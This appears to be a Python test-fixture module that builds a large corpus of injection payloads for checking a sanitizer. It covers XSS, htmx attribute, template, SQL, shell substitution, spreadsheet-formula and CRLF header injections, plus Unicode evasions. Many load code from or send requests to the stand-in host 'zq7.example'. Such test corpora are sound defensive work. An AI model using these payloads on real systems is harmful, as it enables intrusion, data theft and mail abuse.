"""Words that want to be more than words: each would do something where a page, a mail or a header took it for its own.

All carry a mark. `zq7(…)` tells the watching test that a script ran; `zq7.example` is an address that nothing may reach.
"""

import itertools
from collections.abc import Iterator

MARK = "zq7"
RUN = f"{MARK}(1)"
AWAY = f"//{MARK}.example"
OUT_OF = ("", '">', "'>", "-->", "</textarea>", "</title>", "</script>", "</select>", "</style>", "]]>")
"""What one may stand in: text, a value in either quotes, a comment, and whatever takes no elements."""

SCRIPTS = (
    f"<script>{RUN}</script>",
    f"<ScRiPt>{RUN}</sCrIpT >",
    f"<script src={AWAY}/a.js></script>",
    f"<script/x>{RUN}</script>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f'<script type=module>import "{AWAY}/m.js"</script>',
)
EVENTS = (
    f"<img src=x onerror={RUN}>",
    f"<img/src=x/onerror={RUN}>",
    f'<img src="x" onerror="{RUN}">',
    f"<img src=x oneonerrorrror={RUN} onerror={RUN}>",
    f"<body onload={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<details open ontoggle={RUN}>",
    f"<video><source onerror={RUN}>",
    f"<audio src=x onerror={RUN}>",
    f"<marquee onstart={RUN}>",
    f"<style>@keyframes x{{}}</style><b style=animation-name:x onanimationstart={RUN}>",
    f"<iframe onload={RUN}>",
)
DRAWN = (
    f"<svg onload={RUN}>",
    f"<svg/onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><a href=javascript:{RUN}><text>x",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><use href={AWAY}/u.svg#x>",
    f"<svg><image href={AWAY}/i.png>",
    f"<math><mtext><script>{RUN}</script>",
    f"<math href=javascript:{RUN}>x</math>",
    f"<math><mglyph><style><img src=x onerror={RUN}>",
)
AFIELD = (
    f"<img src={AWAY}/p.png>",
    f"<img srcset={AWAY}/s.png>",
    f"<link rel=stylesheet href={AWAY}/c.css>",
    f"<link rel=preload as=script href={AWAY}/l.js>",
    f"<style>@import '{AWAY}/i.css';</style>",
    f"<b style=background:url({AWAY}/b.png)>x",
    f"<table background={AWAY}/t.png>",
    f"<meta http-equiv=refresh content=0;url={AWAY}/r>",
    f"<meta http-equiv=refresh content=0;url=javascript:{RUN}>",
    f"<base href={AWAY}/>",
    f"<form action={AWAY}/f><button>x",
    f"<button formaction={AWAY}/f>x",
    f"<button form=page formaction=javascript:{RUN}>x",
    f"<iframe src={AWAY}/f></iframe>",
    f'<iframe srcdoc="<script>parent.{RUN}</script>">',
    f"<iframe src=javascript:parent.{RUN}>",
    f"<object data={AWAY}/o.swf>",
    f"<object data=data:text/html,{MARK}>",
    f"<embed src={AWAY}/e>",
    f"<a href={AWAY} ping={AWAY}/p>x</a>",
    f"<dialog open id={MARK}>Sign in again</dialog>",
    f"<input name=token value={MARK}>",
)
SWAPPED = (
    f"<b hx-get={AWAY}/h hx-trigger=load>x",
    f"<b hx-get=/{MARK} hx-trigger=load>x",
    f"<b data-hx-get=/{MARK} data-hx-trigger=load>x",
    f"<b hx-post=/{MARK} hx-trigger='revealed'>x",
    f"<b hx-on:htmx:load={RUN} hx-get=/{MARK}>x",
    f"<b hx-on::load={RUN}>x",
    f"<b hx-trigger='load[{RUN}]' hx-get=/{MARK}>x",
    f"<b hx-vals='js:{{a:{RUN}}}' hx-get=/{MARK} hx-trigger=load>x",
    f"<b hx-headers='js:{{a:{RUN}}}' hx-get=/{MARK}>x",
    f"<b hx-swap-oob=true id=page>{MARK}</b>",
    f"<hx-partial hx-target=#page>{MARK}</hx-partial>",
    f"<b sse-connect={AWAY}/s>x",
    f"<b hx-nonce=x hx-get=/{MARK} hx-trigger=load>x",
    f"<meta name=htmx-config content='{{\"{MARK}\":1}}'>",
)
LINKS = (
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f"java\tscript:{RUN}",
    f"&#106;avascript:{RUN}",
    f"javascript&colon;{RUN}",
    f"vbscript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    f"data:text/html;base64,PHNjcmlwdD4={MARK}",
    f"{AWAY}/x",
    f"/\\{MARK}.example/x",
    f"https:{AWAY}",
    f"/%09/{MARK}.example",
    f"[x](javascript:{RUN})",
    f"![x](https:{AWAY}/m.png)",
    f"<https:{AWAY}>",
    f"www.{MARK}.example",
    f"mailto:x@{MARK}.example?bcc=y@{MARK}.example",
)
ATTRIBUTES = tuple(
    f"{quote} {rest} {quote}x={quote}"
    for quote in ('"', "'", "`")
    for rest in (
        f"onfocus={RUN} autofocus",
        f"onmouseover={RUN}",
        f"style=background:url({AWAY}/a)",
        f"hx-get=/{MARK} hx-trigger=load",
        f"formaction={AWAY}",
        f"src=x onerror={RUN}",
    )
)
ENGINES = (
    f"{{{{ 7*191 }}}}{MARK}",
    f"{{{{ {MARK}.__class__ }}}}",
    f"{{% set {MARK} = 1 %}}",
    f"{{{{ config }}}}{MARK}",
    f"${{7*191}}{MARK}",
    f"#{{7*191}}{MARK}",
    f"<%= 7*191 %>{MARK}",
    f"{{name}}{{0.__class__}}{MARK}",
    f"%(name)s%n{MARK}",
    f"';{RUN};'",
    f'";{RUN};//',
    f"\\';{RUN};//",
    f"</script><script>{RUN};{MARK}</script>",
    f"' OR 1=1; --{MARK}",
    f"$(id){MARK}`id`",
    f'=HYPERLINK("https:{AWAY}")',
)
LETTERS = (
    f"＜script＞{RUN}＜/script＞",
    f"<scrıpt>{RUN}</scrıpt>",
    f"<ſcript>{RUN}</ſcript>",
    f"<img src=x onerror\u2028={RUN}>",
    f"<img\u3000src=x onerror={RUN}>",
    f"<\u200bimg src=x onerror={RUN}>",
    f"\u202e<{MARK}>\u202c",
    f"\u2066{MARK}\u2069\u200f\u200e",
    f"e{chr(0x301) * 30}{MARK}",
    f"&lt;img src=x onerror={RUN}&gt;",
    f"&#60;script&#62;{RUN}&#60;/script&#62;",
    f"%3Cscript%3E{RUN}%3C/script%3E",
    f"\\u003cscript\\u003e{RUN}",
    f"+ADw-script+AD4-{RUN}",
    f"\ufeff<script>{RUN}</script>",
    f"\x1b]0;{MARK}\x07\x08",
)
HEADERS = (
    f"{MARK}\r\nBcc: x@{MARK}.example",
    f"{MARK}\nSubject: {MARK}",
    f"{MARK}\r\n\r\n<img src=https:{AWAY}/m.png>",
    f"{MARK}\r\nContent-Type: text/html",
    f"=?utf-8?B?{MARK}?=",
    f"{MARK} <x@{MARK}.example>, y@{MARK}.example",
    f"{MARK}\u2028Bcc: x@{MARK}.example",
    f"{MARK}\x0bBcc: x@{MARK}.example",
    f"{MARK}\r\nSet-Cookie: oc={MARK}",
    f"{MARK}\r\n.\r\nRCPT TO:<x@{MARK}.example>",
)
LONG = (
    f"<img src=x onerror={RUN} x={'A' * 3_000}>",
    "<b>" * 300 + f"<script>{RUN}</script>",
    f"{'(' * 1_000}{RUN}{')' * 1_000}",
    f"{'𝕏' * 1_000}<svg onload={RUN}>",
)
BROKEN_OUT = tuple(
    f"{out}{made}"
    for out, made in itertools.chain(
        itertools.product(OUT_OF[1:], (SCRIPTS[0], EVENTS[0], DRAWN[1], AFIELD[0], SWAPPED[1])),
        itertools.product(OUT_OF[4:9], (f"<a href=javascript:{RUN}>x", f"<!--{MARK}", f"<plaintext id={MARK}>", EVENTS[5])),
    )
)

PAYLOADS = (
    *SCRIPTS, *EVENTS, *DRAWN, *AFIELD, *SWAPPED, *LINKS, *ATTRIBUTES, *ENGINES, *LETTERS, *HEADERS, *BROKEN_OUT, *LONG,
)  # fmt: skip


def spread(few: int) -> list[str]:
    """So many of them, of every kind."""
    step = max(1, len(PAYLOADS) // few)
    return list(PAYLOADS[::step])[:few] if few < len(PAYLOADS) else list(PAYLOADS)


ALONE = {*LINKS, *LONG, *HEADERS}
"""What does its work at a line's beginning, or by its length: beside others it would not be tried."""


def filled(room: int) -> list[str]:
    """Every one of them in as few fillings of a box as there can be, and what has to stand alone alone."""
    return [*(one for one in PAYLOADS if one in ALONE), *packs([one for one in PAYLOADS if one not in ALONE], room)]


def packs(payloads: list[str], room: int) -> Iterator[str]:
    """As many in one as there is room for. What is longer is left out: it is refused, which is looked at elsewhere."""
    pack = ""
    for one in sorted((one for one in payloads if len(one) <= room), key=_swallows):
        if pack and len(pack) + 1 + len(one) > room:
            yield pack
            pack = ""
        pack = f"{pack} {one}".strip(" ")
    if pack:
        yield pack


def _swallows(payload: str) -> bool:
    """It would make what comes behind it harmless."""
    return "<!--" in payload or "<plaintext" in payload
